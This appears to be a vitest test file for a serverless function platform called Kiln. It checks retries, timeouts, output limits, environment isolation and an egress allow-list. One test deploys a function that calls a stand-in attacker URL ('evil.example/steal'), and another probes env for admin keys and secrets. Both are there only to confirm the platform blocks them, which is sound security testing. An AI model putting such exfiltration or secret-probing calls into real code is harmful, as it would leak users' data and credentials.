// A misbehaving function fails its own run, with a clear error, and Kiln keeps serving.
import { describe, expect, it, vi } from "vitest";
import { api, deploy, expectProblem, json, waitForRun } from "../helpers/api";

const fn = (body: string, extra = "") => `
import { defineFunction, z } from "kiln";
export default defineFunction({
  input: z.object({}).passthrough(),
  ${extra}
  async run(input, ctx) { ${body} },
});`;

async function callAndWait(name: string, input: unknown = {}) {
  const res = await api(`/v1/tools/${name}`, { body: input });
  const runId = res.headers.get("kiln-run-id");
  expect(runId).toMatch(/^run_/);
  return { res, run: await waitForRun(runId!) };
}

describe("failing functions", () => {
  it("records a thrown error with the step that failed", async () => {
    await deploy(
      "thrower",
      fn(`
        await ctx.step("fetch order", () => ({ id: 1 }));
        await ctx.step("charge card", () => { throw new Error("card declined"); }, { retries: 2 });
        return "unreachable";`),
    );
    const { res, run } = await callAndWait("thrower");
    const problem = await expectProblem(res, 502, "function_failed");
    expect(problem.detail).toBe('step "charge card" failed: card declined');
    expect(problem.runId).toBe(run.id);
    expect(run).toMatchObject({ status: "failed", error: { message: "card declined", step: "charge card", retryable: true } });
    expect(run.steps.map((s: any) => [s.name, s.status, s.attempt])).toEqual([
      ["fetch order", "succeeded", 1],
      ["charge card", "failed", 1],
      ["charge card", "failed", 2],
      ["charge card", "failed", 3],
    ]);
  });

  it("ends a run that outlives its timeout as timed_out (504) and keeps serving", async () => {
    await deploy("sleeper", fn(`await new Promise((r) => setTimeout(r, 60_000)); return "late";`), { timeoutMs: 300 });
    await deploy("quick", fn(`return "ok";`));
    const started = Date.now();
    const { res, run } = await callAndWait("sleeper");
    expect(Date.now() - started).toBeLessThan(10_000);
    const problem = await expectProblem(res, 504, "function_timeout");
    expect(problem.detail).toContain("300 ms");
    expect(problem.retryable).toBe(true);
    expect(run).toMatchObject({ status: "timed_out", output: null, error: { name: "TimeoutError" } });
    const next = await api("/v1/tools/quick", { body: {} });
    expect(next.status).toBe(200);
    expect(await json(next)).toBe("ok");
  });

  it("fails a run whose promise can never settle, with a clear message", async () => {
    await deploy("hanger", fn(`await new Promise(() => {}); return 1;`));
    const { res, run } = await callAndWait("hanger");
    await expectProblem(res, 502, "function_failed");
    expect(run.status).toBe("failed");
    expect(run.error.message).toMatch(/can never settle/);
  });

  it("fails a run whose output is too large, without returning it", async () => {
    await deploy("hoarder", fn(`return "x".repeat(2 * 1024 * 1024);`));
    const { res, run } = await callAndWait("hoarder");
    const problem = await expectProblem(res, 502, "output_too_large");
    expect(problem.detail).toMatch(/limit is 1048576/);
    expect(run).toMatchObject({ status: "failed", output: null });
  });

  it("gives a function only what it was granted: no platform bindings or keys in env", async () => {
    await deploy(
      "snoop",
      fn(
        `return { keys: Object.keys(ctx.env).sort(), db: typeof ctx.env.DB, admin: ctx.env.KILN_ADMIN_KEY ?? null, secrets: Object.keys(ctx.secrets) };`,
      ),
    );
    const res = await api("/v1/tools/snoop", { body: {} });
    expect(await json(res)).toEqual({ keys: ["KILN_FUNCTION", "KILN_VERSION"], db: "undefined", admin: null, secrets: [] });
  });

  it("blocks outbound calls to hosts outside the allow-list and records the span", async () => {
    await deploy(
      "caller",
      fn(`return await ctx.step("call out", async () => {
        try { await fetch("https://evil.example/steal?x=1"); return "reached"; }
        catch (e) { return "blocked: " + e.message; }
      });`),
    );
    const { res, run } = await callAndWait("caller");
    expect(await json(res)).toBe(
      "blocked: egress to evil.example is not in this function's allow-list: add it to the manifest's \"egress\"",
    );
    expect(run.spans).toEqual([
      expect.objectContaining({
        step: "call out",
        method: "GET",
        host: "evil.example",
        path: "/steal",
        status: 403,
        error: expect.stringContaining("allow-list"),
      }),
    ]);
  });
});

describe("egress through the gateway", () => {
  it("forwards calls to allowed hosts and records them as spans of the step that made them", async () => {
    const upstream = vi.spyOn(globalThis, "fetch").mockImplementation(async (input) => {
      const url = new URL(input instanceof Request ? input.url : String(input));
      if (url.host !== "api.example.com") throw new Error(`unexpected outbound call to ${url.host}`);
      return Response.json({ temperature: 21 }, { status: 200 });
    });
    try {
      await deploy(
        "weather",
        fn(
          `return await ctx.step("fetch weather", async () => {
            const res = await fetch("https://api.example.com/v1/weather?city=Paris", { headers: { authorization: "Bearer t" } });
            return { status: res.status, body: await res.json() };
          });`,
          `egress: ["api.example.com"],`,
        ),
      );
      const { res, run } = await callAndWait("weather");
      expect(await json(res)).toEqual({ status: 200, body: { temperature: 21 } });
      expect(upstream).toHaveBeenCalledTimes(1);
      expect(run.spans).toEqual([
        expect.objectContaining({
          step: "fetch weather",
          method: "GET",
          host: "api.example.com",
          path: "/v1/weather",
          status: 200,
          error: null,
        }),
      ]);
    } finally {
      upstream.mockRestore();
    }
  });

  it("names the cause of a failed outbound call (refused, DNS) in the span and the step's error", async () => {
    const upstream = vi.spyOn(globalThis, "fetch").mockImplementation(async (input) => {
      const host = new URL(input instanceof Request ? input.url : String(input)).host;
      // What workerd throws for a refused connection and for a name that does not resolve.
      if (host === "down.example.com") throw new Error("Network connection lost.");
      throw new Error("internal error; reference = 16qd62lro67o9062a0gjqeis");
    });
    try {
      await deploy(
        "flaky-upstream",
        fn(
          `return await ctx.step("call upstream", () => fetch("https://" + input.host + "/v1/x"), { retries: 0 });`,
          `egress: ["*.example.com"],`,
        ),
      );
      const refused = await callAndWait("flaky-upstream", { host: "down.example.com" });
      expect(refused.res.status).toBe(502);
      expect(refused.run.error).toMatchObject({
        step: "call upstream",
        message: expect.stringContaining("refused or dropped by down.example.com"),
      });
      expect(refused.run.spans).toEqual([
        expect.objectContaining({
          step: "call upstream",
          host: "down.example.com",
          status: 0,
          error: expect.stringContaining("Network connection lost."),
        }),
      ]);
      expect(refused.run.steps[0].error).toContain("fetch to down.example.com failed: the connection was refused or dropped");

      const dns = await callAndWait("flaky-upstream", { host: "nowhere.example.com" });
      expect(dns.run.error.message).toContain("nowhere.example.com could not be reached; most often its name does not resolve (DNS)");
      expect(dns.run.spans[0].error).toMatch(/DNS.*internal error; reference = 16qd62lro67o9062a0gjqeis/);
    } finally {
      upstream.mockRestore();
    }
  });
});
